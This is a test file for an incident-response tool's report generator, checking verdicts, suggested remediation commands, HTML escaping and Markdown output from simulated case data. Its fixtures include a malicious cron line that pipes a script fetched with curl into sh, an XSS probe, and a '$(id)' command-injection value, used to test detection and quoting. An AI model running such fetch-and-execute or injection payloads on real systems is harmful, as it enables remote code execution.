import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { writeCaseMeta, type CaseMeta } from '../../src/case/case.js';
import { Journal } from '../../src/case/journal.js';
import { focusWindow } from '../../src/report/focus.js';
import { buildCaseReport } from '../../src/report/model.js';
import { writeCaseReport } from '../../src/report/write.js';

let dir: string;

interface CaseOptions {
  meta?: Partial<CaseMeta>;
  /** step status per command (default findings) */
  status?: Record<string, string>;
}

/** A case as `ir playbook run incident` leaves it, with each step's JSON trimmed to what the report reads. */
function makeCase(outputs: Record<string, unknown>, o: CaseOptions = {}): string {
  const caseDir = join(dir, 'incident-1');
  const meta: CaseMeta = { kind: 'ir-case', id: 'incident-1', playbook: 'incident', version: 1, playbookSha256: 'x', startedAt: '2026-03-02T10:00:00.000Z', fleet: false, hosts: [{ label: 'web1', spec: 'deploy@192.0.2.10:2222', groups: [], dir: '.' }], target: 'ssh', targetArgs: [{ name: 'sudo', value: true }], vars: {}, ...o.meta };
  rmSync(caseDir, { recursive: true, force: true });
  writeCaseMeta(caseDir, meta, 'name: incident\n');
  mkdirSync(join(caseDir, 'steps'));
  const j = new Journal(join(caseDir, 'journal.jsonl'));
  j.write({ event: 'case-start' });
  let n = 0;
  for (const [command, out] of Object.entries(outputs)) {
    n++;
    const file = `steps/0${n}-${command}.json`;
    if (out !== undefined) writeFileSync(join(caseDir, file), JSON.stringify(out));
    const status = o.status?.[command] ?? 'findings';
    j.write({ event: 'step-end', host: meta.hosts[0]!.label, n, step: command, command, status, exitCode: status === 'ok' ? 0 : status === 'error' ? 2 : 1, outputs: [file], argv: [command, '--json'], ...(status === 'error' ? { message: `ir ${command}: simulated failure` } : {}) });
  }
  j.write({ event: 'host-end', host: meta.hosts[0]!.label, status: 'findings', exitCode: 1 });
  return caseDir;
}

beforeEach(() => (dir = mkdtempSync(join(tmpdir(), 'ir-report-'))));
afterEach(() => rmSync(dir, { recursive: true, force: true }));

const CRON = { rule: 'cron.fetch-exec', key: 'k1', contentHash: 'h1', detector: 'cron', severity: 'critical', title: 'cron job fetches and runs a script', path: '/var/spool/cron/crontabs/deploy', line: 3, evidence: '* * * * * curl http://203.0.113.9/x | sh && echo <script>alert(1)</script>', mtime: '2026-03-01T22:10:00.000Z', remediation: 'remove the line, then `crontab -l && ls`', reason: 'r' };
const KEY = { rule: 'authorized-keys.unknown', key: 'k2', contentHash: 'h2', detector: 'authorized-keys', severity: 'medium', title: 'unknown key', path: '/root/.ssh/authorized_keys', evidence: 'ssh-ed25519 AAAA x', mtime: '2026-03-01T22:12:00.000Z', reason: 'r' };
const SCAN = { findings: [CRON, KEY, { rule: 'ports.inventory', key: 'k3', contentHash: 'h3', detector: 'ports', severity: 'info', title: 'listener 22', evidence: 'tcp 22', reason: 'r' }] };
const AUTH = {
  topIps: [{ ip: '203.0.113.50', failures: 40, users: ['deploy'], firstSeen: '2026-03-01T21:00:00.000Z', lastSeen: '2026-03-01T22:05:00.000Z', bannedIn: ['sshd'] }],
  logins: [{ user: 'deploy', ip: '203.0.113.50', method: 'password', count: 1, first: '2026-03-01T22:06:00.000Z', last: '2026-03-01T22:06:00.000Z', failedBefore: true, failuresFromIp: 40, afterBruteForce: true }],
  alerts: [{ rule: 'auth.success-after-brute-force', severity: 'critical', title: 'deploy logged in after a brute force', user: 'deploy', evidence: 'Accepted password for deploy from 203.0.113.50', details: { ip: '203.0.113.50', time: '2026-03-01T22:06:00.000Z' } }],
  histogram: { bucket: 'hour', buckets: [{ start: '2026-03-01T21:00:00.000Z', failures: 25, accepted: 0 }, { start: '2026-03-01T22:00:00.000Z', failures: 15, accepted: 1 }] },
};
const ISOLATE = { case: '/cases/incident-1', mode: 'pause', dryRun: false, project: { name: 'shop' }, snapshot: { path: '/cases/incident-1/snapshot-shop.tar.gz', sha256: 'cd'.repeat(32), files: 3, bytes: 10, skipped: 0 }, actions: [{ kind: 'pause', subject: 'shop-app-1', argv: ['docker', 'pause', 'abc'], startedAt: '2026-03-02T10:01:00.000Z', endedAt: '2026-03-02T10:01:01.000Z', code: 0, ok: true }] };
const SWEEP = { results: [{ id: 'IR-SSH-001', status: 'fail', severity: 'high', title: 'Root cannot log in over SSH', expected: 'no', actual: 'yes', evidence: '/etc/ssh/sshd_config' }, { id: 'IR-SSH-005', status: 'fail', severity: 'low', title: 'MaxAuthTries is low', expected: '3', actual: '6', evidence: 'x' }, { id: 'IR-SSH-002', status: 'pass', severity: 'high', title: 'ok' }] };

describe('case report', () => {
  test('time order, findings by severity, actions, evidence with its verify line, from the steps JSON', () => {
    const r = buildCaseReport(makeCase({ collect: { path: '/cases/incident-1/web1.tar.gz', sha256: 'ab'.repeat(32), startedAt: '2026-03-02T10:00:30.000Z' }, isolate: ISOLATE, 'persistence-scan': SCAN, 'auth-review': AUTH }));
    expect(r.timeline.map((e) => e.kind)).toEqual(['auth-failures', 'login', 'persistence', 'persistence', 'collection', 'isolation']);
    expect(r.findings.map((f) => [f.severity, f.source])).toEqual([
      ['critical', 'auth-review/auth.success-after-brute-force'],
      ['critical', 'persistence-scan/cron.fetch-exec'],
      ['medium', 'persistence-scan/authorized-keys.unknown'],
    ]);
    expect(r.chart.lanes.actions.map((m) => m.text)).toEqual([expect.stringMatching(/^evidence collected/), expect.stringMatching(/^project shop isolated/)]);
    expect(r.chart.failures[0]!.points).toHaveLength(2);
    expect(r.evidence).toEqual([
      { host: 'web1', path: '/cases/incident-1/web1.tar.gz', sha256: 'ab'.repeat(32), what: 'collect', verify: 'ir evidence verify /cases/incident-1/web1.tar.gz' },
      { host: 'web1', path: '/cases/incident-1/snapshot-shop.tar.gz', sha256: 'cd'.repeat(32), what: 'isolate snapshot of shop', verify: 'ir evidence verify /cases/incident-1/snapshot-shop.tar.gz' },
    ]);
  });

  test('the verdict is derived from the findings and auth alerts, by the written rules', () => {
    const compromised = buildCaseReport(makeCase({ 'persistence-scan': SCAN, 'auth-review': AUTH }));
    expect(compromised.verdict).toEqual({ level: 'compromised', text: 'Verdict: compromised. deploy logged in with a password from 203.0.113.50 after 40 failures, and one critical persistence item was added within the hour.', rules: ['login-after-failures', 'critical-persistence'] });
    const high = buildCaseReport(makeCase({ 'persistence-scan': { findings: [{ ...CRON, severity: 'high' }] }, sweep: SWEEP }));
    expect(high.verdict.level).toBe('suspicious');
    expect(high.verdict.text).toBe('Verdict: possible compromise. One high finding needs checking first: cron job fetches and runs a script.');
    const clean = buildCaseReport(makeCase({ 'persistence-scan': { findings: [KEY] }, sweep: SWEEP }));
    expect(clean.verdict).toEqual({ level: 'clean', text: 'Verdict: no sign of compromise in what was checked (sweep: two hygiene failures; persistence-scan: one item to review).', rules: ['no-sign'] });
    const incomplete = buildCaseReport(makeCase({ 'persistence-scan': { findings: [] }, 'auth-review': undefined }, { status: { 'persistence-scan': 'ok', 'auth-review': 'error' } }));
    expect(incomplete.verdict.level).toBe('incomplete');
    expect(incomplete.verdict.text).toBe('Verdict: incomplete. auth-review could not run on web1 (ir auth-review: simulated failure); no sign of compromise in what did run.');
  });

  test('next steps come from the findings, by urgency, each with its finding and the exact commands for this host', () => {
    const r = buildCaseReport(makeCase({ 'persistence-scan': SCAN, 'auth-review': { ...AUTH, topIps: [{ ...AUTH.topIps[0], bannedIn: null }] } }));
    expect(r.next.map((n) => n.title)).toEqual([
      "Lock deploy's account and end its sessions",
      'Ban 203.0.113.50',
      'Isolate the Compose project',
      'Collect evidence before removing anything',
      'Remove line 3 of /var/spool/cron/crontabs/deploy',
      'Rotate the keys and secrets exposed',
      'Scan again',
    ]);
    const ssh = "ssh -p 2222 deploy@192.0.2.10";
    expect(r.next[0]!.commands).toEqual([`${ssh} 'sudo usermod --lock --expiredate 1 deploy'`, `${ssh} 'sudo pkill -KILL -u deploy'`]);
    expect(r.next[0]!.finding).toBe('auth-review/auth.success-after-brute-force: deploy logged in after a brute force');
    expect(r.next[1]!.commands).toEqual(["ir ban 203.0.113.50 --jail sshd --reason 'logged in as deploy after 40 failures' --host deploy@192.0.2.10:2222 --sudo"]);
    expect(r.next[2]!.commands).toEqual([`${ssh} 'sudo docker compose ls'`, 'ir isolate --project NAME --dry-run --host deploy@192.0.2.10:2222 --sudo']);
    expect(r.next[3]!.commands).toEqual([`ir collect --case ${join(dir, 'incident-1')} --host deploy@192.0.2.10:2222 --sudo`]);
    expect(r.next[4]!.commands).toEqual([`${ssh} 'sudo sed -n 3p /var/spool/cron/crontabs/deploy'`, `${ssh} 'sudo sed -i -e 3d /var/spool/cron/crontabs/deploy'`, `${ssh} 'sudo touch /var/spool/cron/crontabs'`]);
    expect(r.next[4]!.finding).toBe('persistence-scan/cron.fetch-exec: cron job fetches and runs a script (/var/spool/cron/crontabs/deploy:3)');
    expect(r.next.at(-1)!.commands).toEqual(['ir persistence-scan --fail-on high --host deploy@192.0.2.10:2222 --sudo']);
    // a banned attacker is not banned again; an isolated project is not isolated again, and is brought back last
    const r2 = buildCaseReport(makeCase({ collect: { path: '/c/x.tar.gz', sha256: 'ab' }, isolate: ISOLATE, 'persistence-scan': SCAN, 'auth-review': AUTH }));
    expect(r2.next.map((n) => n.title)).toEqual(["Lock deploy's account and end its sessions", 'Remove line 3 of /var/spool/cron/crontabs/deploy', 'Rotate the keys and secrets exposed', 'Scan again', 'Bring the project shop back when it is clean']);
    expect(r2.next.at(-1)!.commands).toEqual(['ir restore --case /cases/incident-1 --dry-run --host deploy@192.0.2.10:2222 --sudo']);
  });

  test('with --root the commands name the image; what only a live host can do says so', () => {
    const r = buildCaseReport(makeCase({ 'persistence-scan': SCAN, 'auth-review': { ...AUTH, topIps: [] } }, { meta: { target: 'image', root: '/mnt/web 1', hosts: [{ label: 'image', groups: [], dir: '.' }], targetArgs: [{ name: 'root', value: '/mnt/web 1' }] } }));
    const by = Object.fromEntries(r.next.map((n) => [n.title, n.commands]));
    expect(by["Lock deploy's account and end its sessions"]).toEqual(["sudo usermod --prefix '/mnt/web 1' --lock --expiredate 1 deploy"]);
    expect(by['Ban 203.0.113.50']).toEqual(["sudo ir ban 203.0.113.50 --jail sshd --reason 'logged in as deploy after 40 failures'"]);
    expect(by['Isolate the Compose project']).toBeUndefined();
    expect(by['Remove line 3 of /var/spool/cron/crontabs/deploy']).toEqual(["sudo sed -n 3p '/mnt/web 1/var/spool/cron/crontabs/deploy'", "sudo sed -i -e 3d '/mnt/web 1/var/spool/cron/crontabs/deploy'", "sudo touch '/mnt/web 1/var/spool/cron/crontabs'"]);
    expect(by['Scan again']).toEqual(["ir persistence-scan --fail-on high --root '/mnt/web 1'"]);
  });

  test('a step whose output is absent or not JSON leaves its part empty; the report is still written', () => {
    const caseDir = makeCase({ collect: undefined, 'persistence-scan': SCAN, fail2ban: undefined });
    writeFileSync(join(caseDir, 'steps/03-fail2ban.json'), 'garbage');
    const { files, report } = writeCaseReport(caseDir);
    expect(files.map((f) => f.slice(caseDir.length + 1))).toEqual(['report.md', 'report.html', 'findings.json']);
    expect(report.evidence).toEqual([]);
    expect(report.findings).toHaveLength(2);
    expect(JSON.parse(readFileSync(join(caseDir, 'findings.json'), 'utf8')).verdict.level).toBe('compromised');
  });

  test('report.html: verdict first, self-contained, escapes evidence, the timeline in two inline SVG panels', () => {
    const caseDir = makeCase({ isolate: ISOLATE, 'persistence-scan': SCAN, 'auth-review': AUTH });
    writeCaseReport(caseDir);
    const html = readFileSync(join(caseDir, 'report.html'), 'utf8');
    expect(html.indexOf('<p')).toBe(html.indexOf('<p id="verdict" class="verdict compromised">Verdict: compromised.'));
    expect(html).toContain('<svg id="timeline"');
    expect(html).toMatch(/<svg id="focus"[^>]* data-from="2026-03-01T2\d:\d\d:\d\d\.\d+Z" data-to="/);
    expect(html).toMatch(/<g class="failures" data-lane="failures">\s*<rect /);
    for (const lane of ['logins', 'persistence', 'privilege', 'actions']) expect(html).toContain(`<g class="lane ${lane}" data-lane="${lane}">`);
    expect(html).toContain('class="isolation"');
    expect(html).toContain('<table id="findings">');
    expect(html).not.toContain('<script');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/<wbr>script&gt;');
    expect(html).not.toMatch(/(src|href)="https?:/);
    expect(html).toContain("default-src 'none'");
  });

  test('report.md: the verdict is the first line; && stays &&; bash blocks hold commands only; argv shell-quoted', () => {
    const caseDir = makeCase({ isolate: { ...ISOLATE, actions: [{ ...ISOLATE.actions[0], argv: ['docker', 'pause', 'a b$(id)'] }] }, 'persistence-scan': SCAN, 'auth-review': AUTH });
    writeCaseReport(caseDir);
    const md = readFileSync(join(caseDir, 'report.md'), 'utf8');
    expect(md.split('\n')[0]).toMatch(/^Verdict: compromised\. deploy logged in/);
    expect(md).toMatch(/^# Case incident-1: incident playbook/m);
    expect(md.indexOf('## What to do next')).toBeLessThan(md.indexOf('## What happened'));
    expect(md.indexOf('## What happened')).toBeLessThan(md.indexOf('## Findings by severity'));
    expect(md).toContain('### CRITICAL (2)');
    expect(md).not.toContain('&amp;');
    expect(md).toContain('&& echo');
    expect(md).toContain("`docker pause 'a b$(id)'`");
    // every line inside a shell block is a command
    const blocks = [...md.matchAll(/```+sh\n([\s\S]*?)\n\s*```+/g)].flatMap((m) => m[1]!.split('\n').map((l) => l.trim()));
    expect(blocks.length).toBeGreaterThan(3);
    for (const l of blocks) expect(l).toMatch(/^(ir|sudo|ssh|ssh-keygen) /);
    // in Markdown, raw HTML is only safe inside a code span, where it is shown as text
    for (const line of md.split('\n').filter((l) => l.includes('<script>'))) expect(line).toMatch(/`[^`]*<script>alert\(1\)<\/script>[^`]*`/);
  });

  test('a case with no findings says "no sign of compromise" and still renders every section', () => {
    const caseDir = makeCase({ 'persistence-scan': { findings: [] }, 'auth-review': { alerts: [], logins: [], topIps: [] } }, { status: { 'persistence-scan': 'ok', 'auth-review': 'ok' } });
    const { report } = writeCaseReport(caseDir);
    expect(report.verdict).toEqual({ level: 'clean', text: 'Verdict: no sign of compromise in what was checked.', rules: ['no-sign'] });
    const html = readFileSync(join(caseDir, 'report.html'), 'utf8');
    for (const h of ['Timeline', 'What to do next', 'Findings by severity', 'What happened', 'Evidence', 'Actions taken', 'Steps']) expect(html).toContain(`<h2>${h}</h2>`);
    expect(html).toContain('<td colspan="4">None.</td>');
    const md = readFileSync(join(caseDir, 'report.md'), 'utf8');
    expect(md.split('\n')[0]).toBe('Verdict: no sign of compromise in what was checked.');
    for (const h of ['What to do next', 'What happened', 'Findings by severity', 'Evidence', 'Actions taken', 'Steps']) expect(md).toContain(`## ${h}`);
  });
});

describe('focus window', () => {
  const t = (iso: string): number => Date.parse(iso);
  test('runs from the first failure of the attack to its last finding; an old key stays outside, counted', () => {
    const dated = [
      { t: t('2025-06-01T10:00:00Z'), w: 3, kind: 'persistence' as const },
      ...Array.from({ length: 20 }, (_, i) => ({ t: t('2026-11-27T02:10:00Z') + i * 60_000, w: 3, kind: 'failure' as const })),
      { t: t('2026-11-27T02:30:30Z'), w: 20, kind: 'login' as const },
      { t: t('2026-11-27T02:33:08Z'), w: 20, kind: 'persistence' as const },
      { t: t('2026-11-27T02:36:20Z'), w: 10, kind: 'persistence' as const },
    ];
    const f = focusWindow(dated, [...dated.map((d) => d.t), t('2026-12-05T12:00:00Z')])!;
    expect(t(f.from)).toBeLessThanOrEqual(t('2026-11-27T02:10:00Z'));
    expect(t(f.from)).toBeGreaterThan(t('2026-11-27T01:50:00Z'));
    expect(t(f.to)).toBeGreaterThanOrEqual(t('2026-11-27T02:36:20Z'));
    expect(t(f.to)).toBeLessThan(t('2026-11-27T03:00:00Z'));
    expect([f.earlier, f.later]).toEqual([1, 1]);
  });

  test('without a key event, the densest group of events; none at all, no window', () => {
    const dated = [1, 2, 3].map((h) => ({ t: t('2026-01-01T00:00:00Z') + h * 60_000, w: 1, kind: 'failure' as const }));
    const f = focusWindow([...dated, { t: t('2026-02-01T00:00:00Z'), w: 1, kind: 'failure' }], [])!;
    expect(t(f.to)).toBeLessThan(t('2026-01-02T00:00:00Z'));
    expect(focusWindow([], [])).toBeNull();
  });
});
